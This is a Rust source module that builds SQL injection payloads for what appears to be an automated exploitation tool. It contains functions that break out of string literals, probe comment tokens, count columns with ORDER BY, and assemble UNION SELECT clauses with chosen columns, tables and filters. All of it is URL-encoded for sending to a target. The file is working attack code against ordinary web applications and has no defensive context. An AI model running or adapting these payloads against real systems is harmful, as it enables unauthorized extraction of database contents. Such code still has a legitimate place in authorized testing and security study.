//! Payload builders
//!
//! Every probe has the shape `<base>' <clause> <comment>`. The builders here
//! return raw (unencoded) request URLs; `to_url` encodes the injected part just
//! before the URL is handed to the oracle.

use crate::models::UnionShape;

pub const NULL: &str = "NULL";

/// Encodes the characters the payloads introduce into the query string
pub fn encode(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len() + 8);
    for c in raw.chars() {
        match c {
            ' ' => out.push('+'),
            '\'' => out.push_str("%27"),
            '#' => out.push_str("%23"),
            '%' => out.push_str("%25"),
            '&' => out.push_str("%26"),
            '+' => out.push_str("%2B"),
            other => out.push(other),
        }
    }
    out
}

/// Request URL for a raw payload built on `base`. Only the text appended to
/// `base` is encoded; the base is sent exactly as given.
pub fn to_url(base: &str, raw: &str) -> String {
    match raw.strip_prefix(base) {
        Some(injected) => format!("{base}{}", encode(injected)),
        None => encode(raw),
    }
}

/// Closes the string literal and leaves the rest of the statement dangling
pub fn broken_literal(base: &str) -> String {
    format!("{base}'")
}

pub fn comment_probe(base: &str, token: &str) -> String {
    format!("{base}' {token}")
}

pub fn order_by(base: &str, column: usize, token: &str) -> String {
    format!("{base}' ORDER BY {column} {token}")
}

/// Quotes a value as a SQL string literal
pub fn string_literal(value: &str) -> String {
    format!("'{}'", value.replace('\'', "''"))
}

pub fn equals(column: &str, value: &str) -> String {
    format!("{column} = {}", string_literal(value))
}

/// `UNION SELECT` clause over a NULL list with at most one populated slot
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnionSelect {
    columns: Vec<String>,
    source: Option<String>,
    filter: Option<String>,
}

impl UnionSelect {
    pub fn nulls(count: usize) -> Self {
        Self {
            columns: vec![NULL.to_string(); count],
            source: None,
            filter: None,
        }
    }

    /// NULL list sized for `shape` with `expr` in its display slot
    pub fn for_shape(shape: UnionShape, expr: impl Into<String>) -> Self {
        Self::nulls(shape.columns).set(shape.slot, expr)
    }

    /// Replaces the NULL at `index`; out-of-range indices are ignored
    pub fn set(mut self, index: usize, expr: impl Into<String>) -> Self {
        if let Some(column) = self.columns.get_mut(index) {
            *column = expr.into();
        }
        self
    }

    pub fn source(mut self, source: impl Into<String>) -> Self {
        self.source = Some(source.into());
        self
    }

    pub fn filter(mut self, predicate: impl Into<String>) -> Self {
        self.filter = Some(predicate.into());
        self
    }

    pub fn clause(&self) -> String {
        let mut clause = format!("UNION SELECT {}", self.columns.join(","));
        if let Some(ref source) = self.source {
            clause.push_str(" FROM ");
            clause.push_str(source);
        }
        if let Some(ref filter) = self.filter {
            clause.push_str(" WHERE ");
            clause.push_str(filter);
        }
        clause
    }

    pub fn render(&self, base: &str, token: &str) -> String {
        format!("{base}' {} {token}", self.clause())
    }
}
